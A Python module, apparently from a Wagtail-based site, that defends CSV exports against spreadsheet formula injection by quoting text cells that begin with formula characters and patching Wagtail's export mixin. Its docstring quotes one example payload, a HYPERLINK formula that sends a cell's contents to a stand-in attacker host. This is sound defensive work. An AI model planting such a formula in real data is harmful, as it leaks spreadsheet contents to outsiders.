"""CSV that is safe to open in a spreadsheet, and faithful otherwise.

Excel, LibreOffice and Google Sheets read a cell that begins with ``=``, ``+``, ``-`` or
``@`` as a formula, and some skip a leading tab or carriage return first ("CSV injection":
``=HYPERLINK("https://evil.example/?"&A1, "Click")`` in an auditor's name runs in the
secretariat's spreadsheet). Every CSV the site produces goes through this module:

- the register export, the quiz item statistics and any other CSV view use ``writer()``
  (or ``safe_row()``) instead of ``csv.writer``;
- every Wagtail admin export (``SpreadsheetExportMixin``: the orders report, site history,
  page reports, redirects, form submissions) is covered by ``guard_wagtail_exports()``,
  which ``lms.apps`` calls once at start-up. Wagtail's XLSX export already stores such
  cells as text.

The rule (OWASP's): a **text** cell that begins with ``=``, ``+``, ``-``, ``@``, a tab or a
carriage return gets a single quote in front (``'=HYPERLINK(...)``), which spreadsheets show
as the text itself. Everything else is written unchanged, so the export stays faithful:

- numbers typed as numbers (``int``, ``float``, ``Decimal``: a numeric column such as
  ``-5`` or a refund of ``-12.50``) cannot be formulas and are written as they are;
- text that is exactly a plain decimal number (``"-5"``, ``"+1"``, ``"-0.25"``) is left as
  it is too: a spreadsheet reads it as that number, which is what it means;
- a quote inside text is not special; only the first character of a cell matters.
"""

from __future__ import annotations

import csv
import datetime
import decimal
import re
from collections.abc import Iterable
from typing import Any

FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
PLAIN_NUMBER = re.compile(r"[+-]?(\d+(\.\d*)?|\.\d+)")
NOT_TEXT = (int, float, decimal.Decimal, datetime.date, datetime.time)  # never formulas


def safe_cell(value: Any) -> Any:
    """The value as a spreadsheet should see it: text that would start a formula is quoted."""
    if value is None or isinstance(value, NOT_TEXT):
        return value
    text = str(value)
    if text.startswith(FORMULA_TRIGGERS) and not PLAIN_NUMBER.fullmatch(text):
        return "'" + text
    return value if isinstance(value, str) else text


def safe_row(row: Iterable[Any]) -> list[Any]:
    return [safe_cell(value) for value in row]


class SafeWriter:
    """``csv.writer`` whose every cell goes through ``safe_cell``."""

    def __init__(self, file, *args, **kwargs):
        self._writer = csv.writer(file, *args, **kwargs)

    def writerow(self, row: Iterable[Any]):
        return self._writer.writerow(safe_row(row))

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def writer(file, *args, **kwargs) -> SafeWriter:
    """Like ``csv.writer(file, ...)``, for any CSV the site produces."""
    return SafeWriter(file, *args, **kwargs)


class Echo:
    """A file-like object whose ``write`` returns the line: stream a writer's rows."""

    def write(self, value: str) -> str:
        return value


def guard_wagtail_exports() -> None:
    """Makes every Wagtail admin CSV export (``SpreadsheetExportMixin``) neutralise formulas.

    Wagtail writes each exported value and heading as given (after its own per-type
    preprocessing), and its exports include text people outside the secretariat typed
    (names, billing names, form submissions). This replaces the two methods that write CSV
    rows, for every view that uses the mixin, Wagtail's own reports included; they do what
    Wagtail 8.0's do, plus ``safe_cell``. Idempotent.
    """
    from wagtail.admin.views.mixins import SpreadsheetExportMixin

    if getattr(SpreadsheetExportMixin, "neutralises_formulas", False):
        return

    def write_csv_row(self, writer, row_dict):
        return writer.writerow(
            {
                field: safe_cell(self.preprocess_field_value(field, value, self.FORMAT_CSV))
                for field, value in row_dict.items()
            }
        )

    def stream_csv(self, queryset):
        writer = csv.DictWriter(Echo(), fieldnames=self.list_export)
        yield writer.writerow(
            {field: safe_cell(self.get_heading(queryset, field)) for field in self.list_export}
        )
        for item in queryset:
            yield self.write_csv_row(writer, self.to_row_dict(item))

    SpreadsheetExportMixin.write_csv_row = write_csv_row
    SpreadsheetExportMixin.stream_csv = stream_csv
    SpreadsheetExportMixin.neutralises_formulas = True
